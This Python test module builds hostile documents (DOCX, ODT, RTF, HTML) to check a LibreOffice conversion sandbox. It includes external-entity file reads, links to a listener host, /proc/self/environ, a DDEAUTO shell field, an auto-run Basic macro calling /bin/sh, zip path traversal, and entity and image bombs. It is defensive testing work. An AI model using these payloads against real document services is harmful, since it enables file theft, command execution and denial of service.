"""Documents that somebody made to hurt whoever opens them: each uses its way out, or its weight, for real.

``test_gate.HOSTILE`` has one file for each thing that the gate refuses. These are for the walls behind the gate: a picture that is
linked *and shown*, a section that is linked *and printed*.
"""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pikepdf

from .conftest import docx_of, png, text_of_pdf
from .test_gate import field, huge_png, packed, relation

CANARY_TEXT = "CANARY-TEXT-8412"
CANARY_COLOR = "magenta"
_DRAWING = (
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)
_ODF = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{space}:1.0"'
    for name, space in (("office", "office"), ("text", "text"), ("style", "style"), ("draw", "drawing"), ("svg", "svg-compatible"), ("script", "script"), ("fo", "xsl-fo-compatible"))
) + ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office"'


def _shown(reference: str) -> str:
    """A picture on the page that is *reference*: ``r:link`` or ``r:embed``."""
    return (
        f'<w:p><w:r><w:drawing><wp:inline {_DRAWING}><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="p"/><a:graphic>'
        f'<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip {reference}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    )


def _linked(target: str) -> bytes:
    return packed(_shown('r:link="rIdX"'), relations=relation("image", target))


def _whole_field(instruction: str) -> bytes:
    return packed(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText>{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _internal(kind: str, name: str) -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{name}"/>'


def _settings(target: str) -> bytes:
    """An attached template: the relation lies beside the settings."""
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation("attachedTemplate", target)}</Relationships>'
    return packed(extra={"word/_rels/settings.xml.rels": rels})


def _odt(body: str, *, automatic: str = "", head: str = "", extra: dict[str, str] | None = None) -> bytes:
    """An ODT file; with a part ``word/document.xml``, for those who look no closer."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr(
            "content.xml",
            f'<?xml version="1.0"?><office:document-content {_ODF} office:version="1.2">{head}<office:automatic-styles>{automatic}</office:automatic-styles>'
            f"<office:body><office:text>{body}</office:text></office:body></office:document-content>",
        )
        names = {"/": "application/vnd.oasis.opendocument.text", "content.xml": "text/xml", **dict.fromkeys(extra or {}, "text/xml")}
        entries = "".join(f'<m:file-entry m:full-path="{name}" m:media-type="{kind}"/>' for name, kind in names.items())
        archive.writestr("META-INF/manifest.xml", f'<?xml version="1.0"?><m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" m:version="1.2">{entries}</m:manifest>')
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
        archive.writestr("word/document.xml", "<x/>")
    return out.getvalue()


def _flat(body: str) -> bytes:
    return (
        f'<?xml version="1.0"?><office:document {_ODF} office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text">'
        f"<office:body><office:text>{body}</office:text></office:body></office:document>"
    ).encode()


def _odt_picture(target: str) -> str:
    return f'<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="{target}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'


def _rtf(body: str) -> bytes:
    return f"{{\\rtf1{body} word/document.xml}}".encode()


def _tables(deep: int) -> str:
    start = "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>"
    return start * deep + "<w:p/>" + "<w:p/></w:tc></w:tr></w:tbl>" * deep + "<w:p/>"


def _stored(data: bytes, *, keep: int | None = None, swap: int | None = None) -> bytes:
    changed = bytearray(data[:keep])
    if swap is not None:
        for place in random.Random(swap).sample(range(len(changed)), 40):
            changed[place] ^= 0x55
    return bytes(changed)


def _entity(head: str) -> bytes:
    return packed("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", head=head)


REACHING: dict[str, Callable[[str, str], bytes]] = {
    "a linked picture": lambda place, canary: _linked(f"http://{place}/a01.png"),
    "a linked picture by https": lambda place, canary: _linked(f"https://{place}/a01.png"),
    "a linked picture by ftp": lambda place, canary: _linked(f"ftp://{place}/a01.png"),
    "a linked picture by webdav": lambda place, canary: _linked(f"vnd.sun.star.webdav://{place}/a20.png"),
    "a linked picture of this machine": lambda place, canary: _linked(f"file://{canary}.png"),
    "a linked picture by its path": lambda place, canary: _linked(f"{canary}.png"),
    "a linked picture of a share": lambda place, canary: _linked(f"\\\\{place}\\share\\x.png"),
    "a linked picture by a variable": lambda place, canary: _linked("vnd.sun.star.expand:$HOME/x.png"),
    "a linked picture out of a package": lambda place, canary: _linked(f"vnd.sun.star.zip://file%3A%2F%2F{canary}.txt/x.png"),
    "the environment": lambda place, canary: _linked("file:///proc/self/environ"),
    "a picture by a field": lambda place, canary: _whole_field(f'INCLUDEPICTURE "http://{place}/a03.png" \\d'),
    "a text by a field": lambda place, canary: _whole_field(f'INCLUDETEXT "{canary}.txt"'),
    "a text by a field from elsewhere": lambda place, canary: _whole_field(f'INCLUDETEXT "http://{place}/a04.docx"'),
    "a reference to a document": lambda place, canary: _whole_field(f'RD "{canary}.txt"'),
    "a database by a field": lambda place, canary: _whole_field(f'DATABASE \\d "{canary}.txt"'),
    "a program by a field": lambda place, canary: _whole_field(f'DDEAUTO sh "-c" "cat {canary}.txt"'),
    "a link by a field": lambda place, canary: _whole_field(f'LINK Word.Document.8 "{canary}.txt" "" \\a \\r'),
    "a picture of mail merge": lambda place, canary: _whole_field(f'IMPORT "{canary}.txt"'),
    "an attached template": lambda place, canary: _settings(f"http://{place}/a05.dotm"),
    "a part in another format": lambda place, canary: packed('<w:altChunk r:id="rIdX"/>', relations=_internal("aFChunk", "chunk.html"), extra={"word/chunk.html": f"<html><img src='http://{place}/a06.png'><iframe src='file://{canary}.txt'></iframe></html>"}),
    "a part in another format from elsewhere": lambda place, canary: packed('<w:altChunk r:id="rIdX"/>', relations=relation("aFChunk", f"http://{place}/a06.html")),
    "a sub-document": lambda place, canary: packed('<w:subDoc r:id="rIdX"/>', relations=relation("subDocument", f"file://{canary}.txt")),
    "an OLE object that is linked": lambda place, canary: packed('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.8" r:id="rIdX" UpdateMode="Always"/></w:object></w:r></w:p>', relations=relation("oleObject", f"file://{canary}.txt")),
    "a frame set": lambda place, canary: packed('<w:p/>', relations=relation("frame", f"http://{place}/a08.html")),
    "a drawing that reaches out": lambda place, canary: packed(_shown('r:embed="rIdX"'), relations=_internal("image", "media/x.svg"), extra={"word/media/x.svg": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="50"><image xlink:href="http://{place}/a12.png" width="50" height="50"/><image xlink:href="file://{canary}.png" width="9" height="9"/></svg>'}),
    "an entity of this machine": lambda place, canary: _entity(f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{canary}.txt">]>'),
    "an entity from elsewhere": lambda place, canary: _entity(f'<!DOCTYPE x [<!ENTITY % y SYSTEM "http://{place}/a15.dtd"> %y;]>'),
    "a picture of old Word": lambda place, canary: packed('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:50pt;height:50pt"><v:imagedata r:link="rIdX"/></v:shape></w:pict></w:r></w:p>', relations=relation("image", f"http://{place}/a19.png")),
    "HTML": lambda place, canary: f"<html><head><link rel='stylesheet' href='http://{place}/b01.css'></head><body><img src='http://{place}/b01.png'><iframe src='file://{canary}.txt'></iframe>word/document.xml</body></html>".encode(),
    "HTML that begins as a ZIP": lambda place, canary: b"PK\n" + f"<html><body><img src='http://{place}/b01.png'>word/document.xml</body></html>".encode(),
    "RTF": lambda place, canary: _rtf(f"{{\\field{{\\*\\fldinst INCLUDEPICTURE http://{place}/b02.png \\\\d}}{{\\fldrslt x}}}}"),
    "RTF with a template": lambda place, canary: _rtf(f"{{\\*\\template http://{place}/b02.dot}}"),
    "ODT with a linked picture": lambda place, canary: _odt(_odt_picture(f"http://{place}/b03.png")),
    "ODT with a picture of this machine": lambda place, canary: _odt(_odt_picture(f"file://{canary}.png")),
    "ODT with a linked section": lambda place, canary: _odt(f'<text:section text:name="s"><text:section-source xlink:href="file://{canary}.txt"/><text:p>x</text:p></text:section>'),
    "ODT with a frame": lambda place, canary: _odt(f'<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:floating-frame xlink:href="http://{place}/b05.html"/></draw:frame></text:p>'),
    "ODT with a linked object": lambda place, canary: _odt(f'<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:object xlink:href="http://{place}/b09.odt"/></draw:frame></text:p>'),
    "ODT with a background": lambda place, canary: _odt('<text:p text:style-name="P1">x</text:p>', automatic=f'<style:style style:name="P1" style:family="paragraph"><style:paragraph-properties><style:background-image xlink:href="http://{place}/b10.png"/></style:paragraph-properties></style:style>'),
    "ODT with a section of another program": lambda place, canary: _odt(f'<text:section text:name="s"><office:dde-source office:dde-application="soffice" office:dde-topic="{canary}.txt" office:dde-item="x" office:automatic-update="true"/><text:p>x</text:p></text:section>'),
    "ODT with a macro at the opening": lambda place, canary: _odt("<text:p>x</text:p>", head='<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.run?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>', extra={"Basic/Standard/M.xml": f'<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">Sub run\nShell("/bin/sh", 0, "-c ""cat {canary}.txt""")\nEnd Sub</script:module>'}),
    "flat ODT": lambda place, canary: _flat(_odt_picture(f"http://{place}/b13.png") + "<text:p>word/document.xml</text:p>"),
    "a table of values from elsewhere": lambda place, canary: f'=WEBSERVICE("http://{place}/b14"),word/document.xml\n'.encode(),
}  # fmt: skip
"""Name → (where somebody listens, a file that must not be read, without ``.png`` or ``.txt``) → the document, called ``….docx`` whatever
it is."""

DAMAGED: dict[str, Callable[[], bytes]] = {
    "cut in the middle": lambda: _stored(docx_of("x" * 5000), keep=4000),
    "cut at its directory": lambda: _stored(docx_of("x"), keep=-30),
    "changed bytes": lambda: _stored(docx_of("some words " * 300), swap=7),
    "other changed bytes": lambda: _stored(docx_of("some words " * 300), swap=8),
    "noise": lambda: b"PK\x03\x04word/document.xml" + random.Random(3).randbytes(20_000),
    "a part outside of its folder": lambda: packed(extra={"../../../../tmp/q7q-slip": b"x"}),
    "XML without an end": lambda: packed(raw=b"<a>" * 1_000_000),
    "XML that is none": lambda: packed(raw=b"\0\xff\xfe"),
    "a picture of 1.6 thousand million dots": lambda: packed(_shown('r:embed="rIdX"'), relations=_internal("image", "media/x.png"), extra={"word/media/x.png": huge_png(40_000, 40_000)}),
    "a thousand laughs": lambda: _entity("<!DOCTYPE x [" + '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9)) + '<!ENTITY x "&a8;">]>'),
    "a long entity many times": lambda: packed("<w:p><w:r><w:t>" + "&x;" * 50_000 + "</w:t></w:r></w:p>", head=f'<!DOCTYPE x [<!ENTITY x "{"a" * 50_000}">]>'),
}  # fmt: skip
"""What LibreOffice reads at once, or not."""

HEAVY: dict[str, Callable[[], bytes]] = {
    "an attribute of 42 MB": lambda: packed(f'<w:p w:rsidR="{"a" * (42 << 20)}"/>'),
    "a run of 42 MB": lambda: packed("<w:p><w:r><w:t>" + "a" * (42 << 20) + "</w:t></w:r></w:p>"),
    "a million paragraphs": lambda: packed("<w:p/>" * 1_000_000),
    "a hundred thousand pages": lambda: packed("<w:p>" + '<w:r><w:br w:type="page"/></w:r>' * 100_000 + "</w:p>"),
    "500 tables in one another": lambda: packed(_tables(500)),
    "20,000 tables in one another": lambda: packed(_tables(20_000)),
    "a table of 120,000 cells": lambda: packed("<w:tbl><w:tblPr/><w:tblGrid/>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 60 + "</w:tr>") * 2000 + "</w:tbl><w:p/>"),
    "a million fields": lambda: packed(field("PAGE") * 200_000),
}  # fmt: skip
"""What takes LibreOffice longer or more memory than it may have."""


def reaching(place: str, canary: Path) -> dict[str, Callable[[], bytes]]:
    """The documents that reach out, for somebody who listens at *place* and files that begin with *canary*."""
    return {name: partial(make, place, str(canary)) for name, make in REACHING.items()}


def lay_canaries(folder: Path) -> Path:
    """Put the files that must not be read into *folder*, where everybody may read them; the path without the ending."""
    for path in (folder, *folder.parents[:2]):
        path.chmod(path.stat().st_mode | 0o011)
    for ending, data in ((".txt", CANARY_TEXT.encode()), (".png", png(37, 41, color=CANARY_COLOR))):
        (folder / f"canary{ending}").write_bytes(data)
        (folder / f"canary{ending}").chmod(0o644)
    return folder / "canary"


def tells(made: bytes) -> str:
    """What of the canaries a PDF holds: ``text``, ``picture`` or nothing."""
    if CANARY_TEXT in text_of_pdf(made):
        return "text"
    with pikepdf.open(io.BytesIO(made)) as read:
        sizes = {(int(one.Width), int(one.Height)) for one in read.objects if isinstance(one, pikepdf.Stream) and one.get("/Subtype") == "/Image"}
    return "picture" if (37, 41) in sizes else ""
